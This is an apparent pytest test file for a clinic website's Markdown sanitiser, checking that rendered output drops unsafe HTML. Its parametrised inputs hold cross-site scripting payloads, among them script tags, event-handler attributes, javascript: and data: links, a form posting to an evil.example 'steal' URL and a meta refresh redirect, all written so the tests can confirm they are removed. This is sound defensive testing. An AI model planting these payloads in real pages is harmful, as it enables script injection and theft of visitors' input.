from html.parser import HTMLParser

import pytest

from kapclinic.content.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    DROPPED_WITH_CONTENT,
    render_markdown,
)


def test_renders_headings_emphasis_and_lists():
    html = render_markdown("## Before you come\n\n**Eat lightly**\n\n- one\n- two")
    assert "<h2>Before you come</h2>" in html
    assert "<strong>Eat lightly</strong>" in html
    assert "<li>one</li>" in html


def test_keeps_https_links_and_marks_them_noopener():
    html = render_markdown("[988 Lifeline](https://988lifeline.org/)")
    assert 'href="https://988lifeline.org/"' in html
    assert "noopener" in html


def test_renders_tables():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<table>" in html
    assert "<td>1</td>" in html


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert('x')</script>",
        "Hello <script src=https://evil.example/x.js></script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<div>\n<script>alert(1)</script>\n</div>",
    ],
)
def test_script_never_comes_through(source):
    html = render_markdown(source)
    assert "<script" not in html.lower()
    assert "alert" not in html


@pytest.mark.parametrize(
    "source",
    [
        '<img src="x" onerror="alert(1)">',
        '<p onclick="alert(1)">hi</p>',
        '<a href="https://example.org" onmouseover="alert(1)">x</a>',
        '<svg onload="alert(1)"></svg>',
    ],
)
def test_event_handler_attributes_never_come_through(source):
    html = render_markdown(source).lower()
    assert "onerror" not in html
    assert "onclick" not in html
    assert "onmouseover" not in html
    assert "onload" not in html


@pytest.mark.parametrize(
    "source",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        '<a href="javascript:alert(1)">click</a>',
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
    ],
)
def test_dangerous_link_schemes_never_come_through(source):
    html = render_markdown(source).lower()
    assert "javascript:" not in html
    assert "data:" not in html


def test_iframes_and_styles_are_removed_with_their_content():
    html = render_markdown("<style>body{display:none}</style><iframe src='https://x'></iframe>ok")
    assert "<style" not in html
    assert "display:none" not in html
    assert "<iframe" not in html
    assert "ok" in html


class _Elements(HTMLParser):
    """Every element in a piece of HTML, as (tag, {attribute: value})."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def _elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


# Raw HTML of every kind an author might paste, with every attribute they might try.
RAW_HTML = """
<div class="box" id="top" style="color:red" lang="en" dir="rtl">Boxed</div>
<span title="s">Spanned</span> <u>Under</u> <ins>Inserted</ins> <small>Small</small>
<img src="https://tracker.example/pixel.png" alt="pixel">
<picture><source srcset="https://tracker.example/p.webp"></picture>
<video src="https://tracker.example/v.mp4"></video> <audio src="a.mp3"></audio>
<form action="https://evil.example/steal"><input name="pw"><button>Send</button></form>
<details open><summary>More</summary>Hidden</details>
<blockquote cite="https://example.org/">Quoted</blockquote>
<a href="https://example.org/" hreflang="en" target="_blank" rel="opener" class="x"
   name="n" download referrerpolicy="unsafe-url">Linked</a>
<table><tr><td colspan="2" rowspan="2" align="left">Cell</td></tr></table>
<abbr title="Ketamine-assisted psychotherapy" lang="en">KAP</abbr>
<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
"""


def test_only_the_tags_markdown_produces_come_through():
    tags = {tag for tag, _ in _elements(render_markdown(RAW_HTML))}
    assert tags <= ALLOWED_TAGS
    assert {"a", "abbr", "blockquote", "td"} <= tags


def test_raw_html_outside_the_list_is_unwrapped_keeping_its_text():
    html = render_markdown(RAW_HTML)
    for text in ("Boxed", "Spanned", "Under", "Inserted", "Small", "More", "Quoted", "Cell"):
        assert text in html


# nh3 keeps these two on any tag; neither can run code or load anything.
GENERIC_ATTRIBUTES = {"lang", "title"}


def test_only_listed_attributes_come_through():
    for tag, attrs in _elements(render_markdown(RAW_HTML)):
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | GENERIC_ATTRIBUTES
        if tag == "a":
            allowed |= {"rel"}
        assert set(attrs) <= allowed, (tag, attrs)


@pytest.mark.parametrize(
    "source",
    [
        "![pixel](https://tracker.example/pixel.png)",
        '![pixel](https://tracker.example/pixel.png "title")',
        "![pixel][ref]\n\n[ref]: https://tracker.example/pixel.png",
        '<img src="https://tracker.example/pixel.png">',
        '<IMG SRC="https://tracker.example/pixel.png">',
    ],
)
def test_images_never_come_through(source):
    # A remote image would tell a third party who read the page, and when.
    html = render_markdown(source).lower()
    assert "<img" not in html
    assert "tracker.example" not in html


def test_every_link_gets_rel_noopener_noreferrer_nofollow_and_no_target():
    html = render_markdown(
        '[a](https://example.org/) <a href="https://example.org/" rel="opener" '
        'target="_blank">b</a>'
    )
    links = [attrs for tag, attrs in _elements(html) if tag == "a"]
    assert len(links) == 2
    for attrs in links:
        assert attrs["rel"] == "noopener noreferrer nofollow"
        assert "target" not in attrs


@pytest.mark.parametrize(
    "href",
    [
        "https://example.org/page",
        "http://example.org/",
        "mailto:clinic@example.org",
        "tel:+15550100",
    ],
)
def test_allowed_link_schemes_are_kept(href):
    [attrs] = [a for tag, a in _elements(render_markdown(f"[x]({href})")) if tag == "a"]
    assert attrs["href"] == href


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,hello",
        "file:///etc/passwd",
        "ftp://files.example/",
        "sms:+15550100",
        "blob:https://example.org/x",
        "intent://example#Intent;end",
        "irc://irc.example/chan",
    ],
)
def test_other_link_schemes_lose_their_href(href):
    for source in (f"[x]({href})", f'<a href="{href}">x</a>'):
        html = render_markdown(source)
        assert all("href" not in attrs for _, attrs in _elements(html)), html
        assert href.split(":")[0] + ":" not in html


@pytest.mark.parametrize("tag", sorted(DROPPED_WITH_CONTENT - {"embed"}))
def test_dangerous_containers_are_removed_with_their_content(tag):
    html = render_markdown(f"Before <{tag}>secret inside</{tag}> after")
    assert "secret inside" not in html
    assert f"<{tag}" not in html
    assert "Before" in html and "after" in html


def test_embed_is_removed():
    # <embed> is a void element: it has no content, only its own attributes.
    html = render_markdown('Before <embed src="https://evil.example/x.swf"> after')
    assert "<embed" not in html
    assert "evil.example" not in html


def test_html_comments_are_removed():
    html = render_markdown("Visible <!-- editor's private note --> text")
    assert "private note" not in html
    assert "<!--" not in html
